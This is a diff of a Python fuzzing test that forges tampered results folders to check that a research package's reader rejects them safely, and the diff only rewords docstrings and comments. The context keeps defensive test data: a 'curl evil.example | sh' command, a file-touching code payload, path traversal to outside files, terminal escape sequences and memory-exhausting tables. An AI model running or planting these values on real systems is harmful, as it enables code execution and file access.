@@ -1,4 +1,4 @@
-"""Results folders that somebody has written to harm: sealed as they should be, and with anything in them."""
+"""Malicious results folders: correctly sealed, with arbitrary content."""
 
 import json
 import os
@@ -35,10 +35,10 @@ from jaxattn.lab.storage import files
 CODE = "evil.py:M"
 EVIL = "from pathlib import Path\nPath({!r}).touch()\ndef M(*_, **__): Path({!r}).touch()\n"
 EVIL_COMMAND = "curl evil.example | sh"
-# What reading a folder may add to the memory of the process.
+# Memory that reading a folder may use.
 MOST_KIB = 2**20
 SECRET = b"\x89PNG what only its owner reads"
-# What a value of JSON may be replaced by.
+# Values that replace a value of JSON.
 STRANGE = (
     None, True, -1, 0, 10**12, 10**30, 1e308, float("nan"), float("inf"), "", "x", "é\x1b[2J\n", "\udcff",
     "../../secret.png", "/etc/hostname", CODE, [], ["x"], [[]], {}, {"kind": CODE}, [{"kind": CODE}],
@@ -54,14 +54,14 @@ TINY = {"study": SMALL}
 
 
 def attack(count: int, seed: int) -> dict[str, int]:
-    """Forge folders, and do with each all that may be done with a folder of a stranger's.
+    """Forge folders, and use each in every way that a stranger's folder may be used.
 
     Returns:
-        How often each forgery was refused, or read.
+        Number of times that each forgery was rejected, and that it was read.
 
     Raises:
-        AssertionError: code that ran, a file read or written outside, a traceback, a wait without a word,
-            memory without bound, advice in the words of whoever wrote the folder.
+        AssertionError: executed code, a file read or written outside, a traceback, a long silence, unbounded
+            memory, or advice in the words of the folder's author.
     """
     outcomes: Counter[str] = Counter()
     with tempfile.TemporaryDirectory() as name:
@@ -78,7 +78,7 @@ def attack(count: int, seed: int) -> dict[str, int]:
             (place / "victims" / "kept").write_text("kept")
             for each in (_run_of(out), _run_of(out) / "figures", out):
                 shutil.copy(place / "evil.py", each)
-            # What is run again is compiled again, which takes longer than all else.
+            # A run that starts again compiles again, which takes most of the time.
             uses = USES if number % 3 == 0 or forge is leads_outside else USES[:-1]
             case = f"seed {seed}, forgery {number}: {forge.__name__}"
             try:
@@ -96,7 +96,7 @@ def _run_of(out: Path) -> Path:
 
 
 def _whole(out: Path) -> Path:
-    """A finished item of the paper in tiny sizes, with its report and its page."""
+    """Return a finished item of the paper in small sizes, with its report and its page."""
     with Reporter(quiet=True) as reporter:
         asked = Asked([ITEM.name], overrides=TINY)
         reproduce(PAPER, asked, out=out, command="jaxattn reproduce", reporter=reporter)
@@ -105,7 +105,7 @@ def _whole(out: Path) -> Path:
 
 
 def _use(out: Path, place: Path, uses: Sequence[Callable[[Path, Path], None]]) -> bool:
-    """Read, verify, draw, and make the page; tell whether anything was refused."""
+    """Read, verify, plot, and make the page; return whether anything was rejected."""
     run, refused = _run_of(out), []
     before = _outside(place)
     with chdir(place), _quiet() as said:
@@ -120,7 +120,7 @@ def _use(out: Path, place: Path, uses: Sequence[Callable[[Path, Path], None]]) -
             spent = time.monotonic() - begin
             grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - held
             assert grown < MOST_KIB, f"{use.__name__} took {grown / 2**20:.1f} GiB more"
-            # What is run again tells how far it is.
+            # A run that starts again reports its progress.
             assert spent < LONGEST_S or use is _reproduce, f"{use.__name__} took {spent:.0f} s"
     assert "Traceback" not in said.getvalue(), said.getvalue()
     assert all(x.isprintable() or x == "\n" for x in said.getvalue()), ascii(said.getvalue())
@@ -176,7 +176,7 @@ def _draw(run: Path, out: Path) -> None:
 
 
 def _page(run: Path, out: Path) -> None:
-    """Make the page of all items; nothing is run, as no data is given and one item alone is asked for."""
+    """Make the page of all items; nothing is run, because no data are given and one item is requested."""
     with Reporter(quiet=True) as reporter:
         reproduce(PAPER, Asked(["fig3_imdb"], overrides=TINY), out=out, command="x", reporter=reporter)
 
@@ -238,7 +238,7 @@ def names_code(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
 
 
 def changes_manifest(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Anything in the manifest."""
+    """Arbitrary values in the manifest."""
     content = _sealed(run / "manifest.json")
     for _ in range(drawn.randint(1, 2)):
         _change(content, drawn)
@@ -246,8 +246,8 @@ def changes_manifest(run: Path, out: Path, place: Path, drawn: random.Random) ->
 
 
 def changes_marks(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Anything in the mark of a batch."""
-    if drawn.random() < 0.5:  # a run on its way is read from its parts
+    """Arbitrary values in the commit record of a batch."""
+    if drawn.random() < 0.5:  # An unfinished run is read from its batches.
         content = _sealed(run / "manifest.json")
         _seal(run / "manifest.json", content | {"status": "running"})
     path = drawn.choice(sorted((run / "parts").glob("*.json")))
@@ -257,7 +257,7 @@ def changes_marks(run: Path, out: Path, place: Path, drawn: random.Random) -> No
 
 
 def changes_words(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Anything in the words of a report."""
+    """Arbitrary words in a report."""
     content = {"sha256": {}, "own": [{"index": 0, "name": "x", "title": "", "caption": ""}]}
     forged = [{}, [], content, {"sha256": {"figures/x.png": None}, "own": content["own"]}]
     forged += [{"sha256": {"../../../../secret.png": "0"}, "own": [CODE]}]
@@ -270,7 +270,7 @@ def changes_words(run: Path, out: Path, place: Path, drawn: random.Random) -> No
 
 
 def changes_log(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Anything in the log."""
+    """Arbitrary values in the log."""
     lines = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
     for line in lines:
         line.pop(files.SEAL)
@@ -281,7 +281,7 @@ def changes_log(run: Path, out: Path, place: Path, drawn: random.Random) -> None
 
 
 def changes_tables(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Anything in a table."""
+    """Arbitrary values in a table."""
     name = drawn.choice(["records", "tokens"])
     table = pd.read_parquet(run / f"{name}.parquet")
     column = drawn.choice(list(table.columns))
@@ -298,7 +298,7 @@ def changes_tables(run: Path, out: Path, place: Path, drawn: random.Random) -> N
 
 
 def changes_figures(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Anything in the options of figures."""
+    """Arbitrary options of figures."""
     options = (
         "phase",
         "metrics",
@@ -320,7 +320,7 @@ def changes_figures(run: Path, out: Path, place: Path, drawn: random.Random) -> 
 
 
 def changes_record(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Anything in the record of an item."""
+    """Arbitrary values in the record of an item."""
     path = out / "items" / f"{ITEM.name}.json"
     content = json.loads(path.read_text())
     if drawn.random() < 0.5:
@@ -357,7 +357,7 @@ def leads_outside(run: Path, out: Path, place: Path, drawn: random.Random) -> No
 
 
 def blocks(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Something else than a file."""
+    """A special file in place of a regular one."""
     names = ["manifest.json", "records.parquet", "tokens.parquet", ".lock", "metrics.jsonl", "report.html"]
     names += ["figures/drawn.json", f"../../../items/{ITEM.name}.json", "../../../figures/fig2_synthetic.png"]
     names += [
@@ -387,13 +387,13 @@ def links_hard(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
     (run / name).unlink(missing_ok=True)
     os.link(place / "victims" / "kept", run / name)
     content = None if name == "manifest.json" else _sealed(run / "manifest.json")
-    if content and drawn.random() < 0.5:  # so that a run has something to do
+    if content and drawn.random() < 0.5:  # The run must have work left.
         _seal(run / "manifest.json", content | {"status": "running"})
         next((run / "parts").glob("*.json")).unlink()
 
 
 def fills_memory(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """A small table that stands for a large one."""
+    """A small table that expands to a large one."""
     name, rows = drawn.choice(["records", "tokens"]), drawn.choice([10**3, 10**5, 10**7])
     text = "x" * drawn.choice([1, 10**3, 10**6])
     table = pd.read_parquet(run / f"{name}.parquet").iloc[:1]
@@ -438,7 +438,7 @@ def advises(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
 
 
 def labels(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """Labels and names that are no mathematics, or without end."""
+    """Labels and names that are invalid mathematics, or very long."""
     content = _sealed(run / "manifest.json")
     text = drawn.choice(
         ["$\\frac{1}$", "$x^$", "${$", "$" * 999, "x" * 10**5, "$x$ " * 10**4, "\x1b[2J\x9b1m\n"]
@@ -451,7 +451,7 @@ def labels(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
 
 
 def nests(run: Path, out: Path, place: Path, drawn: random.Random) -> None:
-    """JSON that is nested without end, or has numbers without end."""
+    """Deeply nested JSON, or very long numbers."""
     path = drawn.choice(
         [run / "manifest.json", run / "figures" / "drawn.json", out / "items" / f"{ITEM.name}.json"]
     )
@@ -481,7 +481,7 @@ def _with_figures(run: Path, specs: list[dict[str, Any]]) -> None:
 
 
 def _change(tree: Any, drawn: random.Random) -> None:
-    """Change one thing somewhere in a tree of JSON: at every depth equally often."""
+    """Change one value of a JSON tree, with equal probability at every depth."""
     while True:
         keys = list(tree) if isinstance(tree, dict) else list(range(len(tree)))
         key = drawn.choice(keys)
